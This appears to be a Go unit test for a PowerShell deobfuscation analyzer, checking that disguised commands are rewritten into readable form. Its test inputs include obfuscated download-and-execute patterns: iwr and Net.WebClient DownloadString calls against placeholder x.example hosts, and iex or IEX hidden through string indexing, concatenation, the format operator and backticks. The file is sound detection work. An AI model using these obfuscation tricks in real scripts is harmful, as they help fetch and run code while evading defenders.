package pwsh

import (
	"context"
	"testing"
)

// TestReadableForm checks when a layer gets a readable form and what it
// shows: disguised names and strings are replaced by their values, while
// the everyday concatenation of honest scripts gets no extra layer.
func TestReadableForm(t *testing.T) {
	cases := []struct {
		name, src, want string // want "" : no readable form
	}{
		{"command picked out of a string", `$r='dow yourfi';&($r[9]+$r[2]+$r[7]) https://x.example/a.txt`, `$r='dow yourfi';&iwr https://x.example/a.txt`},
		{"command from concatenated literals", `&('i'+'ex') 'Write-Host hi'`, `&iex 'Write-Host hi'`},
		{"member from concatenated literals", `$o=New-Object Net.WebClient;$o.('Down'+'loadString')('http://x.example/c')`, `$o=New-Object Net.WebClient;$o.DownloadString('http://x.example/c')`},
		{"format operator and ticks", "(\"{1}{0}\" -f 'ex','i') | Out-Null; IE`X 'x'", `'iex' | Out-Null; IEX 'x'`},
		{"path joined from variables", `$p = $dir + '\' + $name; Copy-Item $p $dest`, ""},
		{"command held in a variable", `$exe='C:\tools\app.exe'; & $exe /quiet`, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := Analyze(context.Background(), c.src, nil)
			got := ""
			for _, l := range r.Layers {
				if l.Via == "readable form" {
					got = l.Text
				}
			}
			if got != c.want {
				t.Errorf("readable form of %q:\n got %q\nwant %q", c.src, got, c.want)
			}
		})
	}
}
